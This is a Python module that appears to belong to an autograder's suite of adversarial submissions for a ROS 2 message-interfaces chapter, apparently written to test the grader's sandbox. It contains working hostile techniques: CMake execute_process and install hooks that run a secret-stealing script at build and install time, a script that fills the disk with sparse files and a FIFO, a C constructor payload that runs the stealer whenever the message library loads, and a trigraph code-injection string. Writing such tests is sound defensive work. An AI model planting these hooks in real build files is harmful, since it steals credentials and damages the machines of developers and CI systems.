"""Attacks on 03: CMake that runs code while messages are built, and code in the messages' library."""

from __future__ import annotations

import json
import time

from autograder.checking.attacks import STEAL_SECRETS, Attack, Chapter

CHAPTER = Chapter("03_interfaces")
PACKAGE = "my_robot_interfaces"
CMAKE, LAST_LINE = f"{PACKAGE}/CMakeLists.txt", "ament_export_dependencies"
RUN_STEALER = """execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/steal.py OUTPUT_VARIABLE output)
message(WARNING "${output}")
install(CODE "execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/steal.py)")
"""
RUN_FILLER = (
    'install(CODE "execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/fill.py ${CMAKE_INSTALL_PREFIX})")\n'
)
FILLER = """import os, sys
for number in range(50):
    open(f"{sys.argv[1]}/{number}", "w").truncate(60 << 20)
os.mkfifo(f"{sys.argv[1]}/pipe")
"""
# Runs in each process that loads the library of the messages.
PAYLOAD = """
#include <sys/wait.h>
#include <unistd.h>
__attribute__((constructor)) static void steal(void) {{
    pid_t child = fork();
    if (child == 0) execlp("python3", "python3", "-c", {script}, (char *) 0);
    waitpid(child, 0, 0);
}}
"""
# A constant whose text is code to a compiler that supports trigraphs, where `??/` is a backslash.
TRIGRAPH = "string EVIL='??/\"; namespace { struct Z { Z() { __builtin_trap(); } } z; } //'\n"


def attacks() -> tuple[Attack, ...]:
    """Return the attacks on the chapter."""
    steal = f"{STEAL_SECRETS}# {time.time_ns()}\n"  # unique, because known messages are not rebuilt
    return (
        Attack(
            "CMake thief",
            "CMakeLists.txt steals while it is read and while it installs",
            CHAPTER.write(
                "default_qos", swaps={CMAKE: (LAST_LINE, RUN_STEALER + LAST_LINE)}, files={f"{PACKAGE}/steal.py": steal}
            ),
            CHAPTER.mutant("default_qos").fails,
            exactly=True,
        ),
        Attack(
            "CMake filler",
            "CMakeLists.txt installs sparse files of 3 GB, and a FIFO",
            CHAPTER.write(
                "misspelt_topic",
                swaps={CMAKE: (LAST_LINE, RUN_FILLER + LAST_LINE)},
                files={f"{PACKAGE}/fill.py": FILLER},
            ),
            CHAPTER.mutant("misspelt_topic").fails,
        ),
        Attack(
            "definition thief",
            "a constant in a definition that some compilers read as code; code in the messages' library steals",
            CHAPTER.write(
                "misspelt_topic",
                heads={f"{PACKAGE}/msg/RobotStatus.msg": TRIGRAPH},
                swaps={
                    CMAKE: (
                        LAST_LINE,
                        f"target_sources(${{PROJECT_NAME}}__rosidl_generator_c PRIVATE steal.c)\n{LAST_LINE}",
                    )
                },
                files={f"{PACKAGE}/steal.c": PAYLOAD.format(script=json.dumps(steal))},
            ),
            CHAPTER.mutant("misspelt_topic").fails,
        ),
    )
